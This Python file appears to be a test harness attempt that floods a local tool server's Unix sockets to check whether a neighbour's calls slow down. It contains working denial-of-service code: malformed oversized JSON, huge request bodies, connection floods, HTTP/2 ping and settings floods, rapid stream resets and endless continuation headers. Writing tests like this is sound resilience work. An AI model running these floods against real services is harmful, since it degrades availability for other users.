"""Floods its own sockets with messages that cost nothing, so that a neighbour's calls become slow.

The argument ``variant`` chooses one flood, so that each has its own numbers.
"""

from __future__ import annotations

import itertools
import socket
import struct
import time
from collections.abc import Callable
from threading import Thread

from attempts import GIVEN, SOCKET, attempt, say
from calls import call, open_channel
from frames import (
    CONTINUATION,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    Connection,
    frame,
    header,
    open_stream,
    request_headers,
)
from speak_http import connect, greeting, request

SPEND_S = 6.0
CLIENTS = 16
MALFORMED = b'{"path":"' + b"x" * 1_000_000 + b'"'
"""A megabyte of JSON without its last bracket: it is read to its end, and charged to no budget."""
MODEL_BODY_BYTES = 31 << 20


def http_json(deadline: float) -> None:
    while time.monotonic() < deadline:
        with connect() as one:
            one.sendall(request("POST", "/call/list_dir", MALFORMED))
            one.recv(4096)


def grpc_json(deadline: float) -> None:
    with open_channel() as channel:
        while time.monotonic() < deadline:
            call(channel, "list_dir", MALFORMED.decode())


def model_bodies(deadline: float) -> None:
    text = b'{"model":"unknown-model","messages":[{"role":"user","content":['
    body = text + b'"' + b'a","' * (MODEL_BODY_BYTES // 4) + b'"]}]}'
    while time.monotonic() < deadline:
        with connect() as one:
            one.settimeout(SPEND_S)
            one.sendall(request("POST", "/v1/chat/completions", body))
            one.recv(4096)


def many_numbers(deadline: float) -> None:
    body = b'{"path":[' + b"1," * 400_000 + b"1]}"
    while time.monotonic() < deadline:
        with connect() as one:
            one.sendall(request("POST", "/call/list_dir", body))
            one.recv(4096)


def tool_lists(deadline: float) -> None:
    while time.monotonic() < deadline:
        with connect() as one:
            for _ in range(100):
                one.sendall(request("GET", "/tools"))
                one.recv(65536)


def mcp_sessions(deadline: float) -> None:
    hello = greeting("x" * 1000)
    while time.monotonic() < deadline:
        with connect() as one:
            for _ in range(20):
                one.sendall(hello)
                one.recv(65536)


def connections(deadline: float) -> None:
    for path in itertools.cycle((SOCKET, SOCKET.replace("grpc.sock", "http.sock"))):
        if time.monotonic() > deadline:
            return
        with socket.socket(socket.AF_UNIX) as one:
            one.settimeout(1)
            one.connect(path)
            one.sendall(PREFACE)


def pings(deadline: float) -> None:
    # Many in one piece, so that sending costs less than answering.
    flood = b"".join(
        frame(PING, 0, 0, struct.pack(">Q", number))
        + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535 + number % 2))
        for number in range(1000)
    )
    while time.monotonic() < deadline:
        connection = Connection()
        for _ in range(100):
            connection.send(flood)
        connection.close()


def rapid_resets(deadline: float) -> None:
    while time.monotonic() < deadline:
        connection = Connection()
        for stream in range(1, 4000, 2):
            reset = frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            connection.send(open_stream(stream) + reset)
        connection.close()


def endless_headers(deadline: float) -> None:
    while time.monotonic() < deadline:
        connection = Connection()
        connection.send(frame(HEADERS, 0, 1, request_headers()))
        for number in range(2000):
            connection.send(frame(CONTINUATION, 0, 1, header(f"x-{number}", "y" * 200)))
        connection.close()


FLOODS: dict[str, tuple[Callable[[float], None], int]] = {
    "http-json": (http_json, CLIENTS),
    "grpc-json": (grpc_json, CLIENTS),
    "numbers": (many_numbers, CLIENTS),
    "model-bodies": (model_bodies, 2),
    "tool-lists": (tool_lists, CLIENTS),
    "mcp-sessions": (mcp_sessions, CLIENTS),
    "connections": (connections, 8),
    "pings": (pings, 8),
    "rapid-resets": (rapid_resets, 8),
    "endless-headers": (endless_headers, 8),
}


def repeat(flood: Callable[[float], None], deadline: float) -> None:
    """Go on after a server that hung up."""
    while time.monotonic() < deadline:
        try:
            flood(deadline)
        except OSError:
            time.sleep(0.01)


def run(name: str) -> str:
    flood, clients = FLOODS[name]
    deadline = time.monotonic() + SPEND_S
    threads = [Thread(target=repeat, args=(flood, deadline), daemon=True) for _ in range(clients)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(SPEND_S + 2)
    return ""


chosen = GIVEN.get("variant", "connections")
say(f"tried a flood of {chosen}: begun")
attempt(f"a flood of {chosen}", run, chosen)
